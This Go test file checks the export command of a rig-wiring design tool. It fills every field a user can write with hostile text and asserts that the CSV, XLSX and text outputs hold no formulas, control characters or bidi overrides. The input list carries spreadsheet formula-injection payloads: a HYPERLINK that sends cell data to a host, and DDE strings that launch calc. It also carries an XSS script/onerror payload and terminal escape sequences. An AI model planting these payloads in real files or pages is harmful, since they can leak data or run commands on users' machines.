package command_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"

	"rigline/cmd/internal/command"
	"rigline/components"
	"rigline/projects"
)

// hostile are texts that have broken lists elsewhere.
var hostile = []string{
	`=HYPERLINK("http://x/?"&A1,"total")`,
	"+1-1",
	"-2+3+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"＝1+1",
	"\u200b=1+1",
	"x;=1+1",
	"x\n=1+1",
	"x\t=1+1",
	`</title><script>alert(1)</script><img src=x onerror=alert(1)>`,
	"&lt;&amp;]]>",
	`"'` + "`" + `,";`,
	"שלום \u202e1.5 V\u202c עולם",
	"\u2066abc",
	"🔋⚡️👩🏽‍🔧",
	strings.Repeat("Ünïcödé ", 63)[:500],
	"a\u0085b",
	"{a: [b, &c *c, !!x]} # no",
	"%s%d%!",
	"a\x1b[31;5mred\x1b]0;title\x07\r\x08b",
}

// hostileRig has a hostile text wherever a person may write one, each time the next
// from the nth on, and in the tags as much of it as a tag may hold.
func hostileRig(t *testing.T, n int) *components.Document {
	t.Helper()
	text := func() string {
		n++
		return hostile[n%len(hostile)]
	}
	data, err := os.ReadFile("../../../projects/samples/library-bus.yaml")
	require.NoError(t, err)
	doc, _, err := projects.Read("rig.yaml", data)
	require.NoError(t, err)
	edits := []components.Edit{components.SetProject{Title: text(), Rig: components.Rig{About: text(), DrawnBy: text(), CheckedBy: text(), Revision: text(), Date: text()}, Basis: doc.Basis, Units: doc.Units, AmbientC: doc.AmbientC, ConductorTempC: doc.ConductorTempC}}
	tag := 0
	for _, p := range doc.Parts() {
		status := p.Status
		if p.ID == "R1" || p.ID == "LD4" {
			status = components.Remove
		}
		edits = append(edits, components.Describe{ID: p.ID, Name: text(), Status: status, Note: text(), Buy: components.Purchase{Description: text(), Supplier: text(), PartNo: text(), Price: 1}})
		if p.Kind == &components.Panel || p.Kind == &components.DCPanel {
			rows := p.Spec["circuits"].Rows()
			for i := range rows {
				rows[i] = rows[i].With("label", components.Str(text()))
			}
			edits = append(edits, components.Set{On: p.ID, Key: "circuits", Value: components.Table(rows...)})
		}
	}
	for _, p := range doc.Parts() { // words of a person's own among the figures: spaces, groups that never run together
		for _, f := range p.Kind.Fields {
			if f.Type == components.Text {
				edits = append(edits, components.Set{On: p.ID, Key: f.Key, Value: components.Str(text())})
			}
		}
	}
	for _, r := range doc.Runs() {
		edits = append(edits, components.Set{On: r.ID, Key: "color", Value: components.Str(text())},
			components.Reroute{ID: r.ID, From: r.From, To: r.To, Cores: r.Cores, Path: r.Path, Status: r.Status, Note: text()})
	}
	short := func() string { return shortened(text()) }
	edits = append(edits, components.Accept{Acceptance: components.Acceptance{Rule: "battery.c-rate-limit", On: []string{"BAT1"}, Reason: text(), By: text()}},
		components.Accept{Acceptance: components.Acceptance{Rule: "battery.bms-single-trip", On: []string{"BAT1"}, Reason: text(), By: text()}})
	for i, r := range doc.Runs() { // tags of runs too
		if i%5 == 0 {
			again := components.Run{ID: components.ID(fmt.Sprintf("%sW%d", short(), i)), From: r.From, To: r.To, Cores: r.Cores, Spec: r.Spec.With("color", components.Str(text())), Note: text()}
			edits = append(edits, components.RemoveRun{ID: r.ID}, components.AddRun{Run: again})
		}
	}
	for _, p := range doc.Parts() {
		tag++
		edits = append(edits, components.RenamePart{ID: p.ID, To: components.ID(fmt.Sprintf("%s%d", short(), tag))})
	}
	edits = append(edits,
		components.SetStates{States: []components.State{{Name: text(), Shore: "50a-120/240", SoC: 0.5}, {Name: text() + "2", SoC: 0.5}}},
		components.Record{Reading: components.Reading{Item: "B01", Value: "no", Date: text(), By: text(), Note: text()}},
		components.Record{Reading: components.Reading{Item: text(), Value: "1", Unit: text()}},
		components.SetNotes{Notes: []components.Note{{Form: "note", Text: text()}, {Form: "cloud", To: components.Point{X: 100, Y: 100}, Text: text()}, {Form: "arrow", To: components.Point{X: 100, Y: 100}, Text: text()}}},
		components.SetRevisions{Revisions: []components.Revision{{Letter: text(), Date: text(), What: text(), By: text()}, {Letter: text(), Date: text(), What: text(), By: text()}}})
	next, err := doc.Apply(edits...)
	require.NoError(t, err)
	return next
}

// shortened is what a tag may hold of a text.
func shortened(text string) string {
	text = strings.Map(func(r rune) rune {
		if r <= ' ' || r == '.' || r == 0x7f {
			return -1
		}
		return r
	}, text)
	for len(text) > 50 {
		text = strings.ToValidUTF8(text[:len(text)-1], "")
	}
	return text
}

var formula = regexp.MustCompile(`(^|[;|\t\r\n])[\s\x{200b}\x{feff}]*[=+@＝＋＠]|(^|[;|\t\r\n])[\s\x{200b}\x{feff}]*[-－]`)

// Whatever a person writes, no list of the hand-off breaks, and nothing in it runs.
func TestHostileWords(t *testing.T) {
	for n := 0; n < len(hostile); n += 4 {
		t.Run(fmt.Sprint(n), func(t *testing.T) {
			dir := t.TempDir()
			file := filepath.Join(dir, "rig.yaml")
			require.NoError(t, os.WriteFile(file, projects.Write(hostileRig(t, n)), 0o600))
			var out, errs bytes.Buffer
			code := command.Main([]string{"export", file, "--out", filepath.Join(dir, "out")}, nil, &out, &errs)
			require.Equal(t, command.Content, code, errs.String())
			files, err := filepath.Glob(filepath.Join(dir, "out", "*"))
			require.NoError(t, err)
			lists, books, texts := 0, 0, 0
			for _, f := range files {
				data, err := os.ReadFile(f)
				require.NoError(t, err)
				switch filepath.Ext(f) {
				case ".csv":
					lists++
					records, err := csv.NewReader(bytes.NewReader(data)).ReadAll() // every record of one width
					require.NoError(t, err, f)
					for _, r := range records {
						for _, cell := range r {
							safeCell(t, filepath.Base(f), cell)
						}
					}
				case ".xlsx":
					books++
					book, err := excelize.OpenReader(bytes.NewReader(data))
					require.NoError(t, err)
					for _, sheet := range book.GetSheetList() {
						rows, err := book.GetRows(sheet)
						require.NoError(t, err)
						for y, r := range rows {
							for x, cell := range r {
								safeCell(t, filepath.Base(f), cell)
								at, _ := excelize.CoordinatesToCellName(x+1, y+1)
								formula, err := book.GetCellFormula(sheet, at)
								require.NoError(t, err)
								assert.Empty(t, formula)
							}
						}
					}
					require.NoError(t, book.Close())
				case ".txt":
					texts++
					assert.False(t, strings.ContainsFunc(string(data), func(r rune) bool {
						return r < ' ' && r != '\n' && r != '\f' || r == 0x7f || r >= 0x80 && r < 0xa0 || r >= 0x202a && r <= 0x202e || r == 0x2066 || r == 0x2067
					}), "%s commands the screen that shows it", filepath.Base(f))
				case ".yaml":
					_, _, err := projects.Read(f, data)
					assert.NoError(t, err, "what is handed over is read back")
				}
			}
			assert.GreaterOrEqual(t, lists, 9)
			assert.Equal(t, 1, books)
			assert.GreaterOrEqual(t, texts, 4)
		})
	}
}

var number = regexp.MustCompile(`^-?[0-9]+(\.[0-9]+)?$`)

func safeCell(t *testing.T, file, cell string) {
	t.Helper()
	if number.MatchString(cell) {
		return
	}
	assert.NotRegexp(t, formula, cell, file)
	for _, r := range cell {
		if r < ' ' && r != '\n' && r != '\t' || r >= 0x202a && r <= 0x202e || r >= 0x2066 && r <= 0x2069 {
			t.Errorf("%s: %U in %q", file, r, cell)
		}
	}
}
